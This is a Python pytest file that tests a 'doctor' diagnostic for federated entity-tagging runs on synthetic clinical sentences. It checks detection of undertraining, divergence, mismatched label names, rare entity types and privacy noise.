"""`fednotes doctor` finds each cause in a run or job that has it, and nowhere else."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from time_limits import processor_time_below
from tiny_jobs import TAGGER

import fednotes as fn
from fednotes.core.errors import ConfigError, FednotesError, TrainingError
from fednotes.jobs.causes import Cause, Setting
from fednotes.jobs.diagnosis.evidence import read_run_evidence
from fednotes.jobs.diagnosis.gain import find_gain_causes
from fednotes.jobs.diagnosis.learning import find_learning_causes
from fednotes.jobs.diagnosis.next_run import find_command
from fednotes.jobs.job_file import parse_job
from fednotes.jobs.kinds.mention_causes import (
    find_data_causes,
    find_missed_types,
    find_threshold_causes,
)
from fednotes.jobs.results import PairedDifference
from fednotes.jobs.score_causes import find_empty_scores

DRUGS = ("zebulol", "zebumab", "zebutin", "zebupril")
SENTENCES = 120
TRAINING = {
    "epochs": 20,
    "batch_size": 24,
    "learning_rate": 0.01,
    "patience": 99,
    "personal_epochs": 0,
}


def write_site(
    folder: Path,
    labels: Sequence[str] = ("Drug",),
    *,
    words: Sequence[str] = DRUGS,
    every: int = 1,
    sentences: int = SENTENCES,
    first: int = 0,
) -> Path:
    """Write sentences with one mention each; return the file.

    Args:
        folder: The folder.
        labels: Labels of the mentions, in turn.
        words: The mentions' words, in turn.
        every: Only every n-th mention is annotated.
        sentences: Number of sentences.
        first: Number of the first one, so that sites have different sentences.
    """
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for n in range(first, first + sentences):
        tag = f"B-{labels[n % len(labels)]}" if n % every == 0 else "O"
        rows.append(f"Case O\nn{n} O\ntook O\n{words[n % len(words)]} {tag}\n. O\n\n")
    path = folder / "notes.conll"
    path.write_text("".join(rows), encoding="utf-8")
    return path


def make_job(north: Path, south: Path, **changes: Any) -> dict[str, Any]:
    """Return the tables of a job of two sites."""
    table: dict[str, Any] = {
        "method": "fedner",
        "seed": 1,
        "conditions": ["alone", "federated"],
        "sites": {"north": {"path": str(north)}, "south": {"path": str(south)}},
        "training": TRAINING,
        "model": TAGGER,
    }
    for key, value in changes.items():
        is_table = isinstance(value, dict) and isinstance(table.get(key), dict)
        table[key] = {**table[key], **value} if is_table else value
    return table


def find(diagnosis: fn.Diagnosis, code: str) -> Cause:
    """Return the cause with this code."""
    by_code = {cause.code: cause for cause in diagnosis.causes}
    assert code in by_code, list(by_code)
    return by_code[code]


def codes(diagnosis: fn.Diagnosis) -> set[str]:
    return {cause.code for cause in diagnosis.causes}


def numbers(cause: Cause) -> dict[str, Any]:
    """Return the numbers of the first evidence."""
    return dict(cause.evidence[0].numbers)


def values(cause: Cause) -> dict[str, Any]:
    """Return the settings to try, by key."""
    return {setting.key: setting.value for setting in cause.settings}


Paths = tuple[Path, Path]


@pytest.fixture(scope="module")
def notes(tmp_path_factory: pytest.TempPathFactory) -> Paths:
    """Return the files of two sites that annotate alike."""
    folder = tmp_path_factory.mktemp("notes")
    return write_site(folder / "a"), write_site(folder / "b", first=500)


@pytest.fixture(scope="module")
def good_run(notes: Paths, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of a run that learned everything."""
    out = tmp_path_factory.mktemp("good") / "run"
    result = fn.simulate(make_job(*notes), out)
    assert result.mean["federated"]["strict"]["f1"] > 0.95
    return out


@pytest.fixture
def changed(good_run: Path, tmp_path: Path) -> Callable[..., fn.Diagnosis]:
    """Return a function that diagnoses a copy of the good run with other files."""

    def diagnose(
        curve: Sequence[float] = (),
        loss: Sequence[float] = (),
        job: dict[str, Any] | None = None,
        **values: Any,
    ) -> fn.Diagnosis:
        out = tmp_path / "changed"
        shutil.copytree(good_run, out)
        if curve or loss or values:
            length = len(curve) or len(loss) or 4
            lines = [
                {
                    "part": "federated",
                    "condition": "federated",
                    "round": place,
                    "loss": loss[place] if loss else 1.0,
                    "valid_f1": curve[place] if curve else 0.9,
                    **values,
                }
                for place in range(length)
            ]
            text = "".join(json.dumps(line) + "\n" for line in lines)
            (out / "metrics.jsonl").write_text(text, encoding="utf-8")
        if job:
            record = json.loads((out / "job.json").read_text("utf-8"))
            for table, of_table in job.items():
                record["table"][table] = record["table"].get(table, {}) | of_table
            (out / "job.json").write_text(json.dumps(record), encoding="utf-8")
        return fn.doctor(out)

    return diagnose


# ---- a good run ----------------------------------------------------------------------


@pytest.mark.slow
def test_a_good_run_has_no_cause_but_a_missing_gain(good_run: Path) -> None:
    diagnosis = fn.doctor(good_run)
    assert codes(diagnosis) <= {"no_gain", "few_steps"}
    assert {cause.importance for cause in diagnosis.causes} <= {"low", "medium"}
    for checked in ("scores by type", "federated against alone", "rare types"):
        assert checked in diagnosis.checked
    assert diagnosis.unchecked == ()


def test_a_missing_gain_of_the_federation_is_reported_with_its_test(
    good_run: Path,
) -> None:
    cause = find(fn.doctor(good_run), "no_gain")
    verdict = fn.doctor(good_run)
    assert verdict.state == "finished"
    assert numbers(cause)["p_value"] == 1.0


def test_a_job_without_problems_lists_what_was_checked(notes: Paths) -> None:
    diagnosis = fn.doctor(make_job(*notes, training={"epochs": 60}))
    assert diagnosis.causes == ()
    assert str(diagnosis).startswith("nothing found; checked: learning rate")
    assert "only training shows" in diagnosis.unchecked[0]


# ---- learning curves -----------------------------------------------------------------


@pytest.mark.slow
def test_a_run_that_ends_too_early_is_reported_and_longer_training_helps(
    notes: Paths, tmp_path: Path
) -> None:
    training = {"epochs": 10, "learning_rate": 3e-3}
    job = make_job(*notes, training=training, conditions=["federated"])
    short = fn.simulate(job, tmp_path / "short")
    cause = find(fn.doctor(tmp_path / "short"), "undertrained")
    assert cause.importance == "high"
    assert cause.evidence[0].file == "metrics.jsonl"
    epochs = values(cause)["training.epochs"]
    assert epochs > 10
    longer = fn.simulate(
        make_job(
            *notes, training={**training, "epochs": epochs}, conditions=["federated"]
        ),
        tmp_path / "longer",
    )
    assert f1(longer) > f1(short) + 0.1
    assert "undertrained" not in codes(fn.doctor(tmp_path / "longer"))


def f1(result: fn.RunResult) -> float:
    score: float = result.mean["federated"]["strict"]["f1"]
    return score


@pytest.mark.parametrize(
    ("curve", "loss", "is_rising"),
    [
        ((0.1, 0.2, 0.3, 0.4), (), True),
        ((0.5, 0.6, 0.7, 0.705), (), False),  # settled within a point
        ((0.1, 0.6, 0.7, 0.6), (), False),  # past its best
        ((0, 0, 0, 0), (9, 8, 6, 4), True),  # finds nothing yet, but its loss falls
        ((0, 0, 0, 0), (9, 9, 9, 9), False),
        ((0.1, 0.14), (), False),  # two evaluations are no curve
        ((0.3, 0.36), (), True),
        ((0.1, 0.9), (), True),
        ((0, 0), (9, 6), True),
        ((0, 0), (9, 9), False),
        ((0.9,), (), False),
    ],
)
def test_a_curve_counts_as_rising_if_its_last_quarter_is_better(
    changed: Callable[..., fn.Diagnosis],
    curve: Sequence[float],
    loss: Sequence[float],
    is_rising: bool,
) -> None:
    diagnosis = changed(curve, loss or [1.0] * len(curve))
    assert ("undertrained" in codes(diagnosis)) == is_rising


@pytest.mark.parametrize(
    ("curve", "unjudged"),
    [
        ((0.5, 0.52), "2 evaluations of federated, and 3 are needed to judge; try"),
        ((0.5,), "1 evaluation of federated, and 3 are needed to judge; try"),
        ((0.5, 0.6), ""),  # it rises clearly
        ((0.5, 0.52, 0.52), ""),
    ],
)
def test_too_few_evaluations_are_reported_with_a_setting(
    changed: Callable[..., fn.Diagnosis], curve: Sequence[float], unjudged: str
) -> None:
    about = [each for each in changed(curve).unchecked if "long enough" in each]
    assert bool(about) == bool(unjudged)
    if unjudged:
        assert unjudged in about[0]
        epochs = 20 * (3 if len(curve) == 1 else 2)
        assert about[0].endswith(f"training.epochs = {epochs}")


@pytest.mark.slow
def test_a_diverged_run_gets_a_lower_learning_rate(
    notes: Paths, tmp_path: Path
) -> None:
    """The learning rate is so high that a loss is infinite, or the score collapses."""
    job = make_job(*notes, training={"learning_rate": 1e18}, conditions=["federated"])
    with pytest.raises(TrainingError, match="learning_rate"):
        fn.simulate(job, tmp_path / "run")
    diagnosis = fn.doctor(tmp_path / "run")
    assert diagnosis.state == "failed"
    cause = find(diagnosis, "diverged")
    assert cause.importance == "high"
    assert cause.evidence[0].file == "failure.json"
    assert values(cause) == {"training.learning_rate": 0.003}
    assert any("which is failed" in text for text in diagnosis.unchecked)


@pytest.mark.parametrize(
    ("curve", "loss", "has_diverged"),
    [
        ((0.5, 0.6, 0.1, 0.0), (), True),  # collapsed
        ((0.5, 0.6, 0.5, 0.5), (), False),
        ((0.6, 0, 0, 0), (9, 7, 5, 4), False),  # found mentions by chance at first
        ((0.3, 0.3, 0.3, 0.3), (2, 4, 9, 9), True),  # exploded
        ((0.3, 0.3, 0.3, 0.3), (2, 1, 2, 3), False),
    ],
)
def test_a_curve_counts_as_diverged_if_the_score_collapses_or_the_loss_explodes(
    changed: Callable[..., fn.Diagnosis],
    curve: Sequence[float],
    loss: Sequence[float],
    has_diverged: bool,
) -> None:
    assert ("diverged" in codes(changed(curve, loss))) == has_diverged


@pytest.mark.parametrize(("select", "is_past"), [("last", True), ("best", False)])
def test_a_last_model_that_is_worse_than_the_best_is_reported(
    changed: Callable[..., fn.Diagnosis], select: str, is_past: bool
) -> None:
    diagnosis = changed((0.5, 0.8, 0.7, 0.7), job={"training": {"select": select}})
    assert ("past_best" in codes(diagnosis)) == is_past
    if is_past:
        assert values(find(diagnosis, "past_best")) == {"training.select": "best"}


# ---- scores --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def untrained_run(notes: Paths, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of a run that found nothing."""
    out = tmp_path_factory.mktemp("untrained") / "run"
    fn.simulate(
        make_job(
            *notes, training={"epochs": 4, "learning_rate": 3e-3, "select": "last"}
        ),
        out,
    )
    return out


def test_models_that_predict_nothing_are_reported_as_one_cause(
    untrained_run: Path,
) -> None:
    diagnosis = fn.doctor(untrained_run)
    cause = find(diagnosis, "nothing_found")
    assert cause.importance == "high"
    assert cause.where.startswith("north, federated")
    few = find(diagnosis, "few_steps")
    assert few.importance == "high"
    # Only the first cause proposes a value of a key.
    assert list(values(few)) == ["training.epochs"]
    assert values(cause) == {}


@pytest.mark.slow
def test_a_type_that_is_never_found_is_listed_with_its_training_mentions(
    notes: Paths, tmp_path: Path
) -> None:
    rare = write_site(tmp_path / "rare", sentences=300)
    lines = rare.read_text("utf-8").split("\n\n")
    for place in range(0, 300, 30):
        lines[place] = lines[place].replace("B-Drug", "B-Dose")
    rare.write_text("\n\n".join(lines), encoding="utf-8")
    job = make_job(rare, notes[1], training={"epochs": 6})
    fn.simulate(job, tmp_path / "run")
    diagnosis = fn.doctor(tmp_path / "run")
    missed = find(diagnosis, "types_missed")
    assert "Dose (" in str(missed.message) + str(missed.evidence)
    assert "never predicted" in str(missed.message) + str(missed.evidence)
    rare_types = find(diagnosis, "types_rare")
    assert list(numbers(rare_types)["mentions"]) == ["Dose"]
    assert rare_types.message.startswith("1 of 2 types (Dose) has fewer than ")
    assert values(rare_types) == {"tags.types": ["Drug"]}


def test_types_that_a_site_lacks_are_proposed_only_where_types_may_differ(
    tmp_path: Path,
) -> None:
    """With "pooled", as by `fednotes init`, all sites need the types to keep."""
    labels = (*["Drug"] * 20, *["Dose"] * 19, "Height")
    paths = (write_site(tmp_path / "a", labels), write_site(tmp_path / "b", first=500))
    proposed = []
    for conditions in (["federated", "pooled"], ["federated"]):
        diagnosis = fn.doctor(make_job(*paths, conditions=conditions))
        proposed.append(values(find(diagnosis, "types_rare")))
    assert proposed == [{"tags.types": ["Drug"]}, {"tags.types": ["Dose", "Drug"]}]


@pytest.mark.parametrize(
    ("scores", "code", "message"),
    [
        ({}, "no_test_data", "no data are held out there"),
        (
            {
                "by_type": {"Drug": {"support": 0, "strict": {"f1": 0.0}}},
                "relaxed": {"f1": 0.0},
                "strict": {"f1": 0.0},
            },
            "no_test_mentions",
            "no mentions in its test data",
        ),
    ],
)
def test_a_site_without_scores_is_reported(
    good_run: Path, scores: dict[str, Any], code: str, message: str
) -> None:
    """It is named once, although each of its models lacks a score."""
    job = read_run_evidence(good_run).job
    of_site = {"alone": scores, "federated": scores}
    (cause,) = find_empty_scores(job, {"south": of_site})
    assert (cause.code, cause.where, cause.importance) == (code, "south", "medium")
    assert message in cause.message
    assert cause.evidence[0].file == "summary.json"


def test_missing_few_test_mentions_is_not_of_high_importance(
    good_run: Path,
) -> None:
    job = read_run_evidence(good_run).job

    def importance(support: int) -> str:
        score = {
            "by_type": {"Drug": {"support": support, "strict": {"f1": 0.0}}},
            "relaxed": {"f1": 0.0},
        }
        (cause,) = find_empty_scores(job, {"south": {"federated": score}})
        return cause.importance

    assert importance(19) == "medium"
    assert importance(20) == "high"


@pytest.mark.parametrize(("support", "importance"), [(9, "low"), (10, "high")])
def test_the_importance_of_missed_types_follows_their_test_mentions(
    good_run: Path, support: int, importance: str
) -> None:
    job = read_run_evidence(good_run).job
    missed = {"support": support, "predicted": 0, "strict": {"f1": 0.0}}
    right = {"support": 50, "predicted": 50, "strict": {"f1": 1.0}}
    score = {
        "by_type": {"Drug": right, "Dose": missed, "Time": missed},
        "relaxed": {"f1": 0.9},
    }
    (cause,) = find_missed_types(job, {"north": {"federated": score}}, {})
    assert cause.importance == importance


@pytest.mark.parametrize(
    ("predicted", "threshold", "code", "proposed"),
    [
        (0, 0.01, "threshold_high", 0.002),
        (49, 0.5, "threshold_high", 0.1),
        (50, 0.01, "", None),
        (200, 0.01, "", None),
        (201, 0.01, "threshold_low", 0.05),
        (201, 0.3, "threshold_low", 0.5),
        (201, 0.5, "threshold_low", None),
    ],
)
def test_the_threshold_of_a_type_scorer_is_proposed_where_it_predicts_too_few_or_many(
    notes: Paths, predicted: int, threshold: float, code: str, proposed: float | None
) -> None:
    """Too few and too many are less than half and more than twice the 100 mentions."""
    of_type = {"support": 50, "predicted": 0, "strict": {"f1": 0.0}}
    by_type = {"Drug": {**of_type, "predicted": predicted}, "Dose": of_type}
    scores = {"north": {"alone": {}, "federated": {"by_type": by_type}}}
    table = make_job(*notes, method="finetune", training={}, model={})
    table |= {"model": {"kind": "type-scorer", "threshold": threshold}}
    job, choosing = (
        parse_job({**table, "training": training}, "j", Path(), "j.toml")
        for training in ({}, {"choose_threshold": True})
    )
    causes = list(find_threshold_causes(job, scores))
    assert [cause.code for cause in causes] == ([code] if code else [])
    for cause in causes:
        assert (cause.importance, cause.where) == ("medium", "north, federated")
        assert numbers(cause) == {"predicted": predicted, "test_mentions": 100}
        assert values(cause)["training.choose_threshold"] is True
        assert values(cause).get("model.threshold") == proposed
    other = parse_job(make_job(*notes), "j", Path(), "j.toml")
    for unlike in (other, choosing):
        assert not list(find_threshold_causes(unlike, scores))


# ---- data ----------------------------------------------------------------------------


def test_entity_types_that_differ_in_spelling_get_a_label_map(
    notes: Paths, tmp_path: Path
) -> None:
    other = write_site(tmp_path / "b", ("DRUGS",))
    shared = {"private": []}
    job = make_job(notes[0], other, training=shared)
    cause = find(fn.doctor(job), "names_alike")
    assert cause.importance == "high"
    assert values(cause) == {"sites.south.label_map": {"DRUGS": "Drug"}}
    own_layers = find(fn.doctor(make_job(notes[0], other)), "names_alike")
    assert own_layers.importance == "low"
    mapped = make_job(notes[0], other, training=shared)
    mapped["sites"]["south"]["label_map"] = {"DRUGS": "Drug"}
    assert "names_alike" not in codes(fn.doctor(mapped))


def test_differing_names_are_listed_before_their_consequences(
    notes: Paths, tmp_path: Path
) -> None:
    """Longer training would not make the sites' names equal."""
    other = write_site(tmp_path / "b", ("DRUGS",))
    training = {"private": [], "epochs": 4, "learning_rate": 3e-3}
    job = make_job(notes[0], other, training=training, conditions=["federated"])
    fn.simulate(job, tmp_path / "run")
    high = [
        c.code for c in fn.doctor(tmp_path / "run").causes if c.importance == "high"
    ]
    assert high[0] == "names_alike"
    assert "few_steps" in high


def test_a_proposed_label_map_keeps_the_maps_of_the_job(
    notes: Paths, tmp_path: Path
) -> None:
    job = make_job(notes[0], write_site(tmp_path / "b", ("x",)))
    job["sites"]["south"]["label_map"] = {"x": "drugs"}
    cause = find(fn.doctor(job), "names_alike")
    label_map = values(cause)["sites.south.label_map"]
    assert label_map["x"] == "Drug"
    assert "Drug" not in label_map


def test_a_narrower_entity_type_is_proposed_with_medium_importance(
    notes: Paths, tmp_path: Path
) -> None:
    other = write_site(tmp_path / "b", ("Drug_name",))
    job = make_job(notes[0], other, training={"private": []})
    cause = find(fn.doctor(job), "names_related")
    assert cause.importance == "medium"
    assert values(cause) == {"sites.south.label_map": {"Drug_name": "Drug"}}


def test_types_that_a_label_map_leaves_out_are_reported(
    notes: Paths, tmp_path: Path
) -> None:
    job = make_job(notes[0], write_site(tmp_path / "b", ("med", "Frequency")))
    assert "types_unmapped" not in codes(fn.doctor(job))
    job["sites"]["south"]["label_map"] = {"med": "Drug"}
    cause = find(fn.doctor(job), "types_unmapped")
    assert list(numbers(cause)["mentions"]) == ["Frequency"]
    assert values(cause) == {"sites.south.label_map": {"med": "Drug", "Frequency": ""}}


def test_test_types_without_training_mentions_are_reported(
    notes: Paths, tmp_path: Path
) -> None:
    job = make_job(*notes)
    tested = write_site(tmp_path / "t", ("DRUG",), first=900)
    job["sites"]["south"] = {"train": str(notes[1]), "test": str(tested)}
    cause = find(fn.doctor(job), "types_untrained")
    assert numbers(cause)["test_mentions"] == {"DRUG": SENTENCES}
    assert values(cause) == {"sites.south.label_map": {"DRUG": "Drug"}}
    assert cause.importance == "high"


def test_one_test_mention_is_too_little_evidence_for_importance(
    notes: Paths, tmp_path: Path
) -> None:
    job = make_job(*notes)
    for site, path in zip(("north", "south"), notes, strict=True):
        tested = write_site(tmp_path / site, first=900)
        text = tested.read_text("utf-8").replace("B-Drug", f"B-Sign_{site}", 1)
        tested.write_text(text, encoding="utf-8")
        job["sites"][site] = {"train": str(path), "test": str(tested)}
    diagnosis = fn.doctor(job)
    assert [cause.code for cause in diagnosis.causes].count("types_untrained") == 1
    cause = find(diagnosis, "types_untrained")
    assert cause.importance == "low"
    assert cause.where == "north; south"
    shown = [evidence.text for evidence in cause.evidence]
    assert "south: test mentions: Sign_south 1" in shown
    assert cause.message.startswith("1 type of its test data has no training mention")


def test_a_type_that_one_site_annotates_far_less_often_is_reported(
    notes: Paths, tmp_path: Path
) -> None:
    sparse = write_site(tmp_path / "b", every=10, sentences=400)
    cause = find(fn.doctor(make_job(notes[0], sparse)), "densities_differ")
    density = numbers(cause)["per_1000_words"]
    assert density["north"] == pytest.approx(200)  # one word of five
    assert density["south"] == pytest.approx(20, rel=0.5)
    assert values(cause) == {"training.personal_epochs": 5}
    assert cause.importance == "low"  # of 108 and of 36 mentions
    assert "densities_differ" not in codes(fn.doctor(make_job(*notes)))


def test_a_small_site_does_not_hide_different_rates_of_large_sites(
    notes: Paths, tmp_path: Path
) -> None:
    sparse = write_site(tmp_path / "b", every=10, sentences=400)
    dense = write_site(tmp_path / "c", first=1000, sentences=400)
    small = write_site(tmp_path / "d", every=12, first=2000, sentences=24)
    job = make_job(dense, sparse)
    job["sites"]["west"] = {"path": str(small)}
    cause = find(fn.doctor(job), "densities_differ")
    assert cause.importance == "medium"
    assert cause.where == "north, south"
    assert "mentions)" in cause.evidence[0].text


def test_sentences_longer_than_the_model_reads_are_counted(notes: Paths) -> None:
    short = make_job(*notes, model={**TAGGER, "max_tokens": 4})
    cause = find(fn.doctor(short), "sentences_cut")
    assert numbers(cause) == {"share": 1.0, "longest": 5}
    assert values(cause) == {"model.max_tokens": 64}


def test_a_site_with_few_mentions_is_reported_as_small(
    notes: Paths, tmp_path: Path
) -> None:
    small = write_site(tmp_path / "b", sentences=30)
    cause = find(fn.doctor(make_job(notes[0], small)), "sites_small")
    assert cause.where == "south"
    assert numbers(cause)["mentions"] < 30


@pytest.fixture(scope="module")
def encoder_run(
    notes: Paths, bert: Path, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """Return a run that fine-tuned an encoder with a vocabulary of few words."""
    job = make_job(*notes, conditions=["federated"], method="finetune")
    job["training"] = {"cycles": 1, "local_epochs": 0.1}
    job["model"] = {"encoder": str(bert), "train": "lora"}
    out = tmp_path_factory.mktemp("encoder") / "run"
    fn.simulate(job, out)
    return out


@pytest.mark.parametrize(("pieces", "is_split"), [(200, True), (149, False)])
def test_an_encoder_that_splits_most_words_is_reported(
    encoder_run: Path, tmp_path: Path, pieces: int, is_split: bool
) -> None:
    out = tmp_path / "run"
    shutil.copytree(encoder_run, out)
    path = out / "federated" / "done.json"
    done = json.loads(path.read_text("utf-8"))
    counted = done["reading"]["north"]
    record = json.loads((out / "job.json").read_text("utf-8"))
    assert counted["words"] == record["data"]["north"]["words"]
    assert counted["pieces"] > counted["words"]
    done["reading"] = {"north": {"words": 100, "pieces": pieces}}
    path.write_text(json.dumps(done), encoding="utf-8")
    diagnosis = fn.doctor(out)
    assert ("words_split" in codes(diagnosis)) == is_split
    if is_split:
        cause = find(diagnosis, "words_split")
        assert numbers(cause) == {"pieces_per_word": 2.0}
        assert cause.importance == "low"  # of a hundred words
        done["reading"] = {"north": {"words": 1000, "pieces": 2000}}
        path.write_text(json.dumps(done), encoding="utf-8")
        assert find(fn.doctor(out), "words_split").importance == "medium"


# ---- settings ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rate", "code", "better"),
    [(1.0, "rate_high", 0.003), (1e-6, "rate_low", 0.001)],
)
def test_a_rate_far_from_those_of_the_presets_is_reported(
    notes: Paths, rate: float, code: str, better: float
) -> None:
    cause = find(fn.doctor(make_job(*notes, training={"learning_rate": rate})), code)
    assert values(cause) == {"training.learning_rate": better}


def test_learning_rates_of_low_rank_changes_are_not_applied_to_full_fine_tuning(
    bert: Path,
) -> None:
    """Only the preset "paper" trains all parameters, at 2e-5."""
    from fednotes.jobs.diagnosis.plan import find_rates

    def rates(train: str) -> tuple[float, float] | None:
        model = {"encoder": str(bert), "train": train}
        job = fn.job(method="finetune", synthetic={}, model=model)
        found = find_rates(job)
        return None if found is None else (found.low, found.high)

    assert rates("lora") == (1e-3, 1e-3)
    assert rates("all") == rates("encoder") == (2e-5, 2e-5)
    assert rates("biases") is None  # no preset trains them


def test_optimizer_steps_are_counted_as_in_a_run(notes: Paths, good_run: Path) -> None:
    job = make_job(*notes, training={"epochs": 1})
    cause = find(fn.doctor(job), "few_steps")
    per_epoch = (
        read_run_evidence(good_run).result.conditions["federated"]["rounds"] / 20
    )
    assert numbers(cause)["steps"] == per_epoch
    assert values(cause)["training.epochs"] > 10


def test_noise_that_hides_the_signal_is_reported(notes: Paths) -> None:
    pytest.importorskip("dp_accounting")
    privacy = {"unit": "sentence", "epsilon": 0.5, "rate": 0.01, "where": "site"}
    diagnosis = fn.doctor(make_job(*notes, privacy=privacy))
    cause = find(diagnosis, "noise_large")
    assert cause.importance == "high"
    assert values(cause)["privacy.rate"] > 0.01
    assert values(cause)["privacy.epsilon"] == 1.0
    few = find(diagnosis, "units_few")
    assert few.where == "north, south"
    generous = {"unit": "sentence", "epsilon": 90.0, "rate": 0.5, "where": "site"}
    assert not {"noise_large", "units_few"} & codes(
        fn.doctor(make_job(*notes, privacy=generous))
    )


# ---- the federation ------------------------------------------------------------------


@pytest.fixture(scope="module")
def contradicting_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the run of three sites, of which one names the same words otherwise."""
    folder = tmp_path_factory.mktemp("contradicting")
    north = write_site(folder / "a", ("Drug", "Test"), words=DRUGS[:2], sentences=220)
    south = write_site(
        folder / "b", ("Test", "Drug"), words=DRUGS[:2], sentences=220, first=1000
    )
    job = make_job(north, south, training={"private": []})
    fn.simulate(job, folder / "run")
    return folder / "run"


@pytest.mark.slow
def test_contradicting_sites_that_lose_by_the_federation_are_reported(
    contradicting_run: Path,
) -> None:
    diagnosis = fn.doctor(contradicting_run)
    below = find(diagnosis, "below_alone")
    assert below.importance == "high"
    assert numbers(below)["high"] < 0
    assert numbers(below)["p_value"] < 0.05
    assert values(below) == {"training.personal_epochs": 5}
    lost = find(diagnosis, "types_lost")
    assert numbers(lost)["alone"] > numbers(lost)["federated"] + 0.1


@pytest.mark.parametrize(
    ("loss", "f1", "is_odd"),
    [
        (9.0, 0.1, True),
        (3.0, 0.1, False),
        (9.0, 0.6, False),  # only its sentences are longer
    ],
)
def test_a_site_whose_loss_stays_far_above_the_others_is_reported(
    changed: Callable[..., fn.Diagnosis], loss: float, f1: float, is_odd: bool
) -> None:
    sites = {
        "a": {"loss": 2.0, "f1": 0.7},
        "b": {"loss": 2.5, "f1": 0.7},
        "c": {"loss": loss, "f1": f1},
    }
    diagnosis = changed(sites=sites)
    assert ("sites_odd" in codes(diagnosis)) == is_odd
    if is_odd:
        cause = find(diagnosis, "sites_odd")
        assert cause.where == "c"
        assert values(cause)["training.aggregation"] == "median"


def test_many_sites_are_compared_in_linear_time(
    changed: Callable[..., fn.Diagnosis],
) -> None:
    """The metrics of a damaged run may name any number of sites."""
    sites = {f"s{number}": {"loss": 2.0, "f1": 0.7} for number in range(20_000)}
    sites["c"] = {"loss": 9.0, "f1": 0.1}
    with processor_time_below(30):  # it was over a minute
        assert find(changed((0.5,), sites=sites), "sites_odd").where == "c"


def test_many_parts_are_diagnosed_in_linear_time(good_run: Path) -> None:
    run = read_run_evidence(good_run)
    entries = [
        {"part": f"p{place // 3}", "round": place % 3, "loss": 1.0 + 9 * (place % 3)}
        for place in range(90_000)
    ]
    with processor_time_below(30):  # it was three minutes
        (cause, *_) = find_learning_causes(replace(run, entries=entries))
        assert cause.code == "diverged"


def test_counts_of_many_sites_are_diagnosed_in_linear_time(good_run: Path) -> None:
    """The record of a damaged run may have counts of any number of sites."""
    job = read_run_evidence(good_run).job
    counts = {"words": 100, "longest": 5, "long": 0, "sentences": 9}
    facts = {
        f"s{n}": {**counts, "mentions": {f"t{n}": 30}, "test_mentions": {f"q{n}": 3}}
        for n in range(2000)
    }
    with processor_time_below(30):  # it was hours
        causes = [cause.code for cause in find_data_causes(job, facts)]
        assert causes.count("types_untrained") == 2000


def test_evidence_of_a_single_round_is_of_low_importance(
    changed: Callable[..., fn.Diagnosis],
) -> None:
    sites = {
        "a": {"loss": 2.0, "f1": 0.7},
        "b": {"loss": 2.5, "f1": 0.7},
        "c": {"loss": 9.0, "f1": 0.1},
    }
    diagnosis = changed((0.5,), sites=sites, took_part=1, absent={"south": 1})
    assert find(diagnosis, "sites_odd").importance == "low"
    assert find(diagnosis, "sites_absent").importance == "low"


@pytest.mark.parametrize(("sites", "is_absent"), [(1, True), (2, False)])
def test_sites_that_miss_rounds_are_reported(
    changed: Callable[..., fn.Diagnosis], sites: int, is_absent: bool
) -> None:
    diagnosis = changed(took_part=sites, absent={"south": 3} if is_absent else {})
    assert ("sites_absent" in codes(diagnosis)) == is_absent
    if is_absent:
        cause = find(diagnosis, "sites_absent")
        assert (cause.where, cause.importance) == ("south", "high")
        assert cause.evidence[1].numbers == {"absent": 12}
        assert values(cause) == {"federation.timeout": 1200.0}


@pytest.mark.parametrize(("federated", "is_open"), [(0.5, True), (0.7, False)])
def test_a_federation_with_little_of_the_gain_of_pooling_is_reported(
    good_run: Path, federated: float, is_open: bool
) -> None:
    """The good run's models are given scores of which pooling gains 0.4."""
    run = read_run_evidence(good_run)

    def score(f1: float) -> dict[str, Any]:
        counts = {"strict": 5000 * f1, "predicted": 5000, "gold": 5000}
        return {"strict": {"f1": f1}, "counts": counts}

    by_condition = {
        "alone": score(0.4),
        "federated": score(federated),
        "pooled": score(0.8),
    }
    gain = federated - 0.4
    difference = PairedDifference(
        difference=gain, low=gain / 2, high=2 * gain, p_value=0.001
    )
    result = run.result.model_copy(
        update={
            "sites": {"north": by_condition, "south": by_condition},
            "paired_mean": {"alone": difference},
            "paired": {},
        }
    )
    changed_run = replace(run, result=result, scores=result.sites)
    causes = {cause.code: cause for cause in find_gain_causes(changed_run)}
    assert ("gap_open" in causes) == is_open
    if is_open:
        cause = causes["gap_open"]
        assert cause.importance == "medium"
        assert "25 % of the gain" in cause.message
        assert numbers(cause)["p_value"] == 0.001
        assert values(cause) == {"training.personal_epochs": 5}


# ---- interrupted runs, seeds, and other targets --------------------------------------


def test_an_interrupted_run_is_diagnosed_from_its_partial_results(
    untrained_run: Path, tmp_path: Path
) -> None:
    """Without a summary, the scores of the finished parts are in their done.json."""
    out = tmp_path / "run"
    shutil.copytree(untrained_run, out)
    (out / "summary.json").unlink()
    shutil.rmtree(out / "federated")
    diagnosis = fn.doctor(out)
    assert diagnosis.state == "unfinished"
    assert find(diagnosis, "nothing_found").where == "north, alone; south, alone"
    assert any("resume it" in text for text in diagnosis.unchecked)


def test_an_older_run_without_counts_is_noted(
    untrained_run: Path, tmp_path: Path
) -> None:
    out = tmp_path / "run"
    shutil.copytree(untrained_run, out)
    record = json.loads((out / "job.json").read_text("utf-8"))
    del record["data"]
    (out / "job.json").write_text(json.dumps(record), encoding="utf-8")
    summary = json.loads((out / "summary.json").read_text("utf-8"))
    del summary["causes"]
    (out / "summary.json").write_text(json.dumps(summary), encoding="utf-8")
    diagnosis = fn.doctor(out)
    assert "nothing_found" in codes(diagnosis)
    assert "few_steps" not in codes(diagnosis)
    assert any("did not count" in text for text in diagnosis.unchecked)


@pytest.mark.slow
def test_causes_of_most_seeds_are_reported_for_all(
    notes: Paths, tmp_path: Path
) -> None:
    job = make_job(
        *notes, training={"epochs": 4, "learning_rate": 3e-3, "select": "last"}
    )
    fn.simulate(job, tmp_path / "seeds", seeds=(1, 2, 3))
    diagnosis = fn.doctor(tmp_path / "seeds")
    cause = find(diagnosis, "nothing_found")
    assert cause.evidence[0].numbers == {"seeds": [1, 2, 3]}
    assert cause.evidence[1].file == "seed-1/summary.json"
